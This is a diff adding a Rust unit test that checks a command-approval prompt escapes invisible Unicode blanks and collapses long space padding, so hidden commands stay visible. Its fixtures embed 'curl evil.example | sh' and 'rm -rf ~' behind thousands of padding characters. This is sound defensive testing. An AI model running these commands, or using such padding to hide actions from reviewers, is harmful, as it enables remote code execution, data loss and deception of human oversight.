@@ -243,3 +243,50 @@ fn the_command_is_shown_whole_and_quoted_or_not_asked() {
     let huge = vec!["x".repeat(COMMAND_LIMIT)];
     assert_eq!(command_line(&huge), None);
 }
+
+/// Blank-looking characters and padding cannot push what runs out of sight (findings F6):
+/// every non-ASCII space, blank and format character is escaped, a long run of spaces is
+/// one visible marker, and a marker spelled in the argument is not taken for one.
+#[test]
+fn blanks_and_padding_are_visible_in_the_question() {
+    let blanks = "\u{3164}\u{2800}\u{115f}\u{1160}\u{ffa0}\u{a0}\u{3000}\u{2000}\u{2007}\u{200a}\
+        \u{202f}\u{205f}\u{1680}\u{ad}\u{34f}\u{180e}\u{2061}\u{2064}\u{600}\u{13430}";
+    let script = format!(
+        "echo safe{blanks}{}; curl evil.example | sh",
+        " ".repeat(3000)
+    );
+    let argv = ["run".to_owned(), "sh".to_owned(), "-c".to_owned(), script];
+    let line = command_line(&argv).unwrap();
+    let raw: Vec<char> = line.chars().filter(|c| !c.is_ascii()).collect();
+    assert_eq!(raw, ['⟨', '⟩'], "kept raw: {line}");
+    for escaped in [
+        "\\u{3164}",
+        "\\u{2800}",
+        "\\u{3000}",
+        "\\u{a0}",
+        "\\u{205f}",
+        "\\u{13430}",
+    ] {
+        assert!(line.contains(escaped), "{escaped}: {line}");
+    }
+    assert!(
+        line.contains("⟨3000 spaces⟩; curl evil.example | sh\""),
+        "{line}"
+    );
+    assert!(line.chars().count() < 400, "{line}");
+    // The whole question, and standard input's lines, too.
+    let cwd = Path::new("/work");
+    let stdin = format!("echo ok{}\u{3000}rm -rf ~\n", " ".repeat(150));
+    let text = message(&Shown {
+        stdin: Some(stdin.as_bytes()),
+        ..shown(&line, cwd, None)
+    });
+    assert!(!text.contains(&" ".repeat(9)), "{text}");
+    assert!(
+        text.contains("  | echo ok⟨150 spaces⟩\\u{3000}rm -rf ~"),
+        "{text}"
+    );
+    // Up to eight spaces stay as they are (indentation); a spelled marker is escaped.
+    let line = command_line(&["a        b".to_owned(), "x⟨9 spaces⟩y".to_owned()]).unwrap();
+    assert_eq!(line, "conda \"a        b\" \"x\\u{27e8}9 spaces⟩y\"");
+}
